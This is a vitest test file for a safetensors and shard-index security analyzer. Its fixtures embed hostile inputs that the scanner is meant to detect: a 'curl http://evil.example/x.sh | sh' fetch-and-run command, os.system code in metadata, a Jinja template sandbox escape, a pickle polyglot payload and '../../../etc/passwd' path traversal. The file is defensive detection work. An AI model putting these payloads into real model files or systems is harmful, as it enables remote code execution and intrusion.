import type { ModelFile } from "@modelward/core";
import analyzerPickle from "@modelward/analyzer-pickle";
import defaultRuleset from "@modelward/ruleset-default";
import { AnalyzerTester, allFindings, buildSafetensors, pickle, recordingContext, type SafetensorsTensor } from "@modelward/testing";
import { describe, expect, it } from "vitest";
import { POPULAR_CHAT_TEMPLATES } from "../../../packages/jinja-audit/src/popular-chat-templates.fixture.js";
import plugin from "./index.js";
import { parseStrictJson } from "./strict-json.js";

const tester = new AnalyzerTester({ plugins: [plugin] });
const TENSORS: SafetensorsTensor[] = [
  { name: "model.embed_tokens.weight", dtype: "BF16", shape: [320, 64] },
  { name: "model.layers.0.self_attn.q_proj.weight", dtype: "BF16", shape: [64, 64] },
  { name: "model.norm.weight", dtype: "F32", shape: [64] },
  { name: "lm_head.weight", dtype: "F16", shape: [320, 64] },
];
const st = (o: Parameters<typeof buildSafetensors>[0] = {}) => buildSafetensors({ tensors: TENSORS, metadata: { format: "pt" }, ...o }).bytes;
const llama31 = POPULAR_CHAT_TEMPLATES.find((t) => t.name === "meta-llama-Llama-3.1-8B-Instruct")?.template ?? "";

tester.run("safetensors", {
  valid: [
    { name: "a transformers-style file", path: "model.safetensors", bytes: () => st() },
    { name: "no metadata, every dtype", path: "model.safetensors", bytes: () => buildSafetensors({ tensors: ["BOOL", "U8", "I8", "F8_E5M2", "F8_E4M3", "I16", "U16", "F16", "BF16", "I32", "U32", "F32", "F64", "I64", "U64", "C64"].map((dtype, i) => ({ name: `t${i}`, dtype, shape: [3, 2] })) }).bytes },
    { name: "F4 with an even element count", path: "model.safetensors", bytes: () => buildSafetensors({ tensors: [{ name: "w", dtype: "F4", shape: [4, 2] }] }).bytes },
    { name: "scalars and empty tensors", path: "model.safetensors", bytes: () => buildSafetensors({ tensors: [{ name: "s", shape: [] }, { name: "e", shape: [0, 4] }, { name: "x", shape: [2] }] }).bytes },
    { name: "no tensors at all", path: "empty.safetensors", bytes: () => buildSafetensors({ metadata: { format: "pt" } }).bytes },
    { name: "ordinary metadata (licence, author, version)", path: "model.safetensors", bytes: () => st({ metadata: { format: "pt", license: "apache-2.0", author: "Test Lab", version: "1.0" } }) },
    { name: "a real chat template in metadata", path: "model.safetensors", bytes: () => st({ metadata: { format: "pt", chat_template: llama31 } }) },
    { name: "recognised by content under another name", path: "weights.bin", bytes: () => st() },
    { name: "a documentation URL is low at most", path: "model.safetensors", bytes: () => st({ metadata: { format: "pt", homepage: "https://example.org/model" } }) },
  ],
  invalid: [
    {
      name: "code in __metadata__ (modelaudit malicious_import)",
      path: "model.safetensors",
      bytes: () => st({ metadata: { format: "pt", model_info: "import os; os.system('echo pwned')" } }),
      findings: [{ ruleId: "safetensors/code-in-metadata", severity: "high", message: /model_info.*os\.system/ }],
    },
    {
      name: "shell command in __metadata__",
      path: "model.safetensors",
      bytes: () => st({ metadata: { setup: "curl http://evil.example/x.sh | sh" } }),
      findings: [
        { ruleId: "safetensors/code-in-metadata", severity: "high", message: /shell command/ },
        { ruleId: "safetensors/url-in-metadata", severity: "low", message: /evil\.example/ },
      ],
    },
    {
      name: "credential in __metadata__",
      path: "model.safetensors",
      bytes: () => st({ metadata: { token: `hf_${"A".repeat(34)}` } }),
      findings: [{ ruleId: "safetensors/secret-in-metadata", severity: "medium" }],
    },
    {
      name: "SSTI chat template in __metadata__",
      path: "model.safetensors",
      bytes: () => st({ metadata: { chat_template: "{{ cycler.__init__.__globals__.os.popen('echo hi').read() }}" } }),
      findings: [{ ruleId: "safetensors/template-sandbox-escape", severity: "critical" }],
    },
    {
      name: "header length past the end of the file",
      path: "model.safetensors",
      bytes: () => st({ lengthOverride: 0xffff_ffff_ffffn }),
      findings: [{ ruleId: "safetensors/header-overflow", severity: "high", message: /header length says 281474976710655 bytes/ }],
    },
    {
      name: "shape whose element count overflows 64 bits",
      path: "model.safetensors",
      bytes: () => buildSafetensors({ tensors: [{ name: "w", shape: [2n ** 40n, 2n ** 40n], dataOffsets: [0, 4] }], data: 4 }).bytes,
      findings: [{ ruleId: "safetensors/header-overflow", severity: "high", message: /overflows 64 bits/ }],
    },
    {
      name: "offsets past the data section",
      path: "model.safetensors",
      bytes: () => st({ data: 100 }),
      findings: [{ ruleId: "safetensors/tensor-out-of-bounds", severity: "high", message: /more tensors lie past it/ }],
    },
    {
      name: "overlapping tensors",
      path: "model.safetensors",
      bytes: () => buildSafetensors({ tensors: [{ name: "a", shape: [4] }, { name: "b", shape: [4], dataOffsets: [8, 24] }] }).bytes,
      findings: [{ ruleId: "safetensors/malformed", severity: "medium", message: /inside the previous tensor/ }],
    },
    {
      name: "a gap between tensors",
      path: "model.safetensors",
      bytes: () => buildSafetensors({ tensors: [{ name: "a", shape: [4] }, { name: "b", shape: [4], dataOffsets: [32, 48] }] }).bytes,
      findings: [{ ruleId: "safetensors/malformed", message: /belong to no tensor/ }],
    },
    {
      name: "span that does not match shape × dtype",
      path: "model.safetensors",
      bytes: () => buildSafetensors({ tensors: [{ name: "a", shape: [4], dataOffsets: [0, 12] }] }).bytes,
      findings: [{ ruleId: "safetensors/malformed", message: /needs 16 bytes but its data_offsets span 12/ }],
    },
    {
      name: "unknown dtype, bad shape, reversed offsets",
      path: "model.safetensors",
      bytes: () =>
        buildSafetensors({
          headerText: '{"a":{"dtype":"Q4_K","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[-1],"data_offsets":[16,32]},"c":{"dtype":"F32","shape":[0],"data_offsets":[40,32]}}',
          data: 40,
        }).bytes,
      findings: [
        { ruleId: "safetensors/malformed", message: /unknown dtype `Q4_K`/ },
        { ruleId: "safetensors/malformed", message: /tensor `b` has a shape/ },
        { ruleId: "safetensors/malformed", message: /end before they begin/ },
      ],
    },
    {
      name: "duplicate tensor names (which one loads depends on the reader)",
      path: "model.safetensors",
      bytes: () => buildSafetensors({ headerText: '{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', data: 4 }).bytes,
      findings: [{ ruleId: "safetensors/malformed", message: /duplicate key `w`/ }],
    },
    {
      name: "non-string metadata value",
      path: "model.safetensors",
      bytes: () => st({ metadata: { format: "pt", layers: 12 } }),
      findings: [{ ruleId: "safetensors/malformed", message: /holds a number, not a string/ }],
    },
    {
      name: "header that is not JSON",
      path: "model.safetensors",
      bytes: () => buildSafetensors({ headerText: '{"a": {"dtype": "F32",}}' }).bytes,
      findings: [{ ruleId: "safetensors/malformed", message: /not valid JSON/ }],
    },
    {
      name: "header that is not UTF-8",
      path: "model.safetensors",
      bytes: () => {
        const b = buildSafetensors({ headerText: '{"a":"xx"}' }).bytes;
        b[14] = 0xff;
        return b;
      },
      findings: [{ ruleId: "safetensors/malformed", message: /UTF-8/ }],
    },
    {
      name: "a pickle appended after the tensors (polyglot) is found by the pickle analyzer",
      path: "model.safetensors",
      bytes: () => st({ trailing: pickle().proto(4).callStr("os", "system", "echo pwned").stop().toBytes() }),
      findings: [{ ruleId: "safetensors/malformed", message: /follow the last tensor/ }],
    },
  ],
});

describe("safetensors analyzer", () => {
  it("claims a file by content under another name", async () => {
    const report = await tester.scan("weights.bin", st());
    expect(report.files[0]?.format).toBe("safetensors");
    expect(report.files[0]?.properties?.tensorCount).toBe(4);
  });

  it("hands trailing bytes to the engine: a pickle tail is analysed as a pickle", async () => {
    const t = new AnalyzerTester({ plugins: [plugin, analyzerPickle], rulesets: [defaultRuleset] });
    const report = await t.scan("model.safetensors", st({ trailing: pickle().proto(4).callStr("os", "system", "echo pwned").stop().toBytes() }));
    const critical = allFindings(report).filter((f) => f.severity === "critical");
    expect(critical.length).toBeGreaterThan(0);
    expect(report.files.some((f) => f.members.includes("trailing-bytes"))).toBe(true);
  });

  it("reads only the header of a file with 10 GB of declared data", async () => {
    const big = buildSafetensors({ tensors: [{ name: "w", dtype: "F32", shape: [2_500_000_000] }], metadata: { format: "pt" }, data: "none" });
    const size = big.bytes.length + Number(big.dataSize);
    let read = 0;
    // A sparse file: the header in memory, zeroes after it, every read counted.
    const file: ModelFile = {
      path: "big.safetensors",
      members: [],
      name: "big.safetensors",
      extension: "safetensors",
      size,
      depth: 0,
      async read(start, end) {
        const e = Math.min(end, size);
        read += e - start;
        const out = new Uint8Array(e - start);
        out.set(big.bytes.subarray(start, Math.min(e, big.bytes.length)));
        return out;
      },
      stream: () => {
        throw new Error("a header-only analyzer must not stream");
      },
    };
    const { ctx, recording } = recordingContext();
    await plugin.analyzers?.safetensors?.analyze(file, ctx);
    expect(recording.findings).toEqual([]);
    expect(recording.facts.properties?.parameterCount).toBe(2_500_000_000);
    expect(read).toBeLessThanOrEqual(big.bytes.length);
  });

  it("keeps integers exact and records duplicates with their pointer", () => {
    const r = parseStrictJson('{"a":{"x":18446744073709551615,"x":1.5}}  ');
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.duplicates).toEqual([{ pointer: "/a/x", key: "x" }]);
    expect(r.trailing).toBe(2);
    expect(parseStrictJson("[1,]").ok).toBe(false);
    expect(parseStrictJson('{"a":1} x').ok).toBe(false);
    expect(parseStrictJson("[".repeat(100) + "]".repeat(100)).ok).toBe(false);
  });
});

describe("sharded safetensors index (model.safetensors.index.json)", () => {
  const shard = () => buildSafetensors({ tensors: TENSORS.slice(0, 2) }).bytes;
  const index = (map: Record<string, unknown>) => new TextEncoder().encode(JSON.stringify({ metadata: { total_size: 1 }, weight_map: map }));
  const rules = (r: Awaited<ReturnType<typeof tester.scanTree>>) => allFindings(r).map((f) => `${f.ruleId} ${f.severity} ${f.evidence.referenced ?? f.evidence.shard ?? ""}`);
  const twoShards = { "a.weight": "model-00001-of-00002.safetensors", "b.weight": "model-00002-of-00002.safetensors", "c.weight": "model-00002-of-00002.safetensors" };

  it("is silent when every shard is there, and describes the index", async () => {
    const r = await tester.scanTree({ "m/model.safetensors.index.json": index(twoShards), "m/model-00001-of-00002.safetensors": shard(), "m/model-00002-of-00002.safetensors": shard() });
    expect(rules(r)).toEqual([]);
    expect(r.files.find((f) => f.path.endsWith("index.json"))).toMatchObject({ format: "safetensors-index", status: "scanned", properties: { tensorCount: 3, shardCount: 2 } });
  });

  it("reports a missing shard (medium) and a shard name that leaves the folder (high)", async () => {
    const r = await tester.scanTree({ "m/model.safetensors.index.json": index({ ...twoShards, "d.weight": "../../../etc/passwd", "e.weight": "/root/x.safetensors" }), "m/model-00001-of-00002.safetensors": shard() });
    expect(rules(r).sort()).toEqual([
      "safetensors/index-shard-escape high ../../../etc/passwd",
      "safetensors/index-shard-escape high /root/x.safetensors",
      "safetensors/index-shard-missing medium m/model-00002-of-00002.safetensors",
    ]);
  });

  it("leaves the index incomplete when a listed shard was not analysed as safetensors", async () => {
    const r = await tester.scanTree({ "model.safetensors.index.json": index({ "a.weight": "notes.txt" }), "notes.txt": new TextEncoder().encode("plain text") });
    expect(r.files.find((f) => f.path === "model.safetensors.index.json")!.incomplete.map((i) => i.reason).join()).toMatch(/"notes.txt" .* was not analysed/);
  });

  it("reports an index that is not JSON or has no weight_map", async () => {
    expect(rules(await tester.scan("model.safetensors.index.json", new TextEncoder().encode("{nope")))).toEqual(["safetensors/index-malformed medium "]);
    expect(rules(await tester.scan("model.safetensors.index.json", new TextEncoder().encode("{\"metadata\": {}}")))).toEqual(["safetensors/index-malformed medium "]);
  });
});
